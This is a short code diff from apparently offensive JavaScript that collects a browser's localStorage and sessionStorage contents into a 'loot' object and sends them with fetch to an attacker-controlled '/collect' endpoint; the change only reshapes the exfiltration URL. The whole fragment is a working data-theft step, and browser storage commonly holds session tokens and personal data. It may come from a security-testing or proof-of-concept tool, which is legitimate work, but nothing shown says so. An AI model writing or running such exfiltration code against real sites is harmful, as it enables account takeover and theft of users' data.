@@ -19,7 +19,7 @@
       localStorage: Object.fromEntries(Object.entries(localStorage)),
       sessionStorage: Object.fromEntries(Object.entries(sessionStorage)),
     };
-    const url = `${attacker}/collect/${run}/?loot=${encodeURIComponent(JSON.stringify(loot))}`;
+    const url = `${attacker}/collect/?run=${run}&loot=${encodeURIComponent(JSON.stringify(loot))}`;
     await fetch(url, { mode: "no-cors", credentials: "omit" }).catch(() => {});
     report({ loot });
     return;
